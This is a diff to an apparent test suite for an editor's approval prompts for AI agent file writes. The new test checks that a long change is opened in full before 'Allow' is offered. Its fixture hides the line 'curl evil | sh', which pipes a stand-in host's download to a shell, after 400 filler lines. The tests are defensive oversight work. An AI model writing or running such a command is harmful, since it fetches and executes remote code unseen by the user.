@@ -338,7 +338,9 @@ async def test_a_message_prompt_never_offers_allow_for_what_it_cannot_show(
 ) -> None:
     content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
     call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
-    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    await editor.open_session(
+        workspace, approvals=False, show_document=False, script=script({"toolCalls": [call]})
+    )
     editor.message_choice = "Allow"  # whatever the user picks, Allow is not among the actions
     await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
     [request] = editor.message_requests
@@ -358,3 +360,27 @@ async def test_a_message_prompt_shows_a_short_change_whole(editor: Editor, works
     assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
     assert "+PAYLOAD = 1" in request.message
     assert (workspace / "small.py").read_text() == content
+
+
+async def test_a_long_change_is_opened_in_the_editor_before_allow_is_offered(
+    editor: Editor, workspace: Path
+) -> None:
+    content = "".join(f"line {n}\n" for n in range(400)) + "PAYLOAD = 'curl evil | sh'\n"
+    call = {"name": "write_file", "arguments": {"path": "big.py", "content": content}}
+    await editor.open_session(workspace, approvals=False, script=script({"toolCalls": [call]}))
+    shown: list[str] = []
+
+    def allow_after_reading_it() -> Any:
+        [document] = editor.client.shown_documents
+        shown.append(Path(document.uri.removeprefix("file://")).read_text())
+        return {"title": "Allow"}
+
+    editor.message_answer = allow_after_reading_it
+    await editor.run(prompt="go", runId="r1", limits={"timeoutSeconds": 20})
+    [request] = editor.message_requests
+    assert [a.title for a in request.actions] == ["Allow", "Allow always", "Deny"]
+    [document] = editor.client.shown_documents
+    assert document.take_focus and Path(document.uri).name in request.message
+    assert "+PAYLOAD = 'curl evil | sh'" in shown[0]  # the whole diff was open when asked
+    assert (workspace / "big.py").read_text() == content
+    assert not Path(document.uri.removeprefix("file://")).exists()  # removed once answered
